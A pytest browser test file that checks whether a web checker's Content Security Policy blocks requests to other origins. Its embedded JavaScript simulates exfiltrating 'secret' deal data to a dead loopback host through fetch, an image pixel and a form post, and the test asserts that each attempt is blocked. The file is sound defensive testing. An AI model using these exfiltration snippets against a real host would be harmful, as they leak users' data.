"""Every page carries a Content Security Policy, so the browser itself refuses requests to other origins: deal
data typed into the checker cannot be sent anywhere, even by injected markup. The checker still works under it
(the other browser tests run with the policy in force)."""

from __future__ import annotations

from typing import Any

import pytest

from tests.browser.conftest import open_checker, open_context

pytestmark = pytest.mark.browser
OTHER_ORIGIN = "http://127.0.0.2:9"  # loopback, nothing listens: only the policy can explain a violation event

ATTEMPTS = """async (target) => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', e => violations.push(e.effectiveDirective));
    try { await fetch(target + '/exfiltrate?deal=secret'); } catch (e) {}
    const img = document.createElement('img');
    img.src = target + '/pixel.png?deal=secret';
    document.body.appendChild(img);
    const form = document.createElement('form');
    form.method = 'post'; form.action = target + '/collect';
    document.body.appendChild(form);
    try { form.requestSubmit(); } catch (e) {}
    await new Promise(r => setTimeout(r, 500));
    return violations;
}"""


def test_checker_page_policy_blocks_requests_to_other_origins(browser: Any, origin: str) -> None:
    context, recorder = open_context(browser, origin)
    try:
        page = open_checker(context, origin)
        failures: dict[str, str] = {}
        page.on("requestfailed", lambda request: failures.setdefault(request.url, request.failure or ""))
        policy = page.get_attribute('meta[http-equiv="Content-Security-Policy"]', "content")
        assert policy and "default-src 'self'" in policy and "connect-src 'self'" in policy
        violations = page.evaluate(ATTEMPTS, OTHER_ORIGIN)
        assert {"connect-src", "img-src", "form-action"} <= set(violations), violations
        attempted = [url for url in recorder.requests if url.startswith(OTHER_ORIGIN)]
        # Chromium reports a blocked attempt as a request that failed with reason "csp": nothing was sent.
        assert all(failures.get(url) == "csp" for url in attempted), (attempted, failures)
    finally:
        context.close()


def test_guidance_pages_carry_the_policy(browser: Any, origin: str) -> None:
    context, _ = open_context(browser, origin)
    try:
        page = context.new_page()
        for path in ("", "steps/end-user/", "countries/eg/", "findings/u401/"):
            page.goto(origin + path)
            policy = page.get_attribute('meta[http-equiv="Content-Security-Policy"]', "content")
            assert policy and "connect-src 'self'" in policy, path
    finally:
        context.close()
